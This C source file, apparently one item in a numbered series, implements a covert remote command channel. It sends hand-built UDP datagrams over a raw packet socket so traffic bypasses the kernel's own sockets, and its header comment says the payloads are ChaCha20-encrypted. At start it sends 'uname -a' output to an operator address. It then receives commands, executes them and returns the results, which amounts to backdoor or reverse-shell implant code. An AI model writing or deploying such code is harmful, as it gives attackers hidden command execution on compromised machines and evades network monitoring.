/*
 * AN0401: commands in UDP datagrams that are written and read on a packet socket, past the kernel's own sockets, under ChaCha20.
 * usage: packet ADDRESS PORT INTERFACE OWN-ADDRESS
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>

#include "answers.h"
#include "dressed.h"
#include "link.h"

#define HEAD 28
#define OWN_PORT 40404
/* What fits into a frame: nobody splits it on this way. */
#define TEXT_MAX 1200

static struct sockaddr_ll to;
static uint8_t from_address[4], to_address[4];
static uint16_t to_port;

static void put16(uint8_t *at, size_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void say(int fd, const char *text, size_t len)
{
	static uint8_t bytes[DRESSED_MAX];
	size_t size = dressed_seal(bytes, HEAD, text, len < TEXT_MAX ? len : TEXT_MAX, 0);
	uint32_t sum = 0;

	memset(bytes, 0, HEAD);
	bytes[0] = 0x45;
	put16(bytes + 2, size);
	bytes[8] = 64;
	bytes[9] = IPPROTO_UDP;
	memcpy(bytes + 12, from_address, 4);
	memcpy(bytes + 16, to_address, 4);
	for (int i = 0; i < 20; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(bytes + 10, (uint16_t)~sum);
	put16(bytes + 20, OWN_PORT);
	put16(bytes + 22, to_port);
	put16(bytes + 24, size - 20);
	if (sendto(fd, bytes, size, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		link_fail("send");
	link_tell();
}

static int hear(int fd, char *text, size_t room)
{
	static uint8_t bytes[DRESSED_MAX];

	for (;;) {
		ssize_t got = recv(fd, bytes, sizeof(bytes), 0);

		if (got <= 0)
			return -1;
		if (got > HEAD && bytes[9] == IPPROTO_UDP && (bytes[22] << 8 | bytes[23]) == OWN_PORT)
			return dressed_open(bytes, (size_t)got, HEAD, text, room);
	}
}

int main(int argc, char **argv)
{
	static char text[ANSWER_MAX];
	struct timeval patience = { .tv_sec = 15 };
	char command[256];
	size_t len;
	int fd;

	if (argc != 5)
		return 64;
	link_refuse_others(argv[1]);
	inet_pton(AF_INET, argv[1], to_address);
	inet_pton(AF_INET, argv[4], from_address);
	to_port = (uint16_t)atoi(argv[2]);
	to.sll_family = AF_PACKET;
	to.sll_protocol = htons(ETH_P_IP);
	to.sll_ifindex = (int)if_nametoindex(argv[3]);
	to.sll_halen = ETH_ALEN;
	memset(to.sll_addr, 0xff, ETH_ALEN);
	fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience)) < 0 ||
	    bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		link_fail("packet socket");
	say(fd, text, answer("uname -a", text));
	while (hear(fd, command, sizeof(command)) >= 0) {
		len = answer(command, text);
		if (len == 0)
			return 0;
		say(fd, text, len);
	}
	return 1;
}
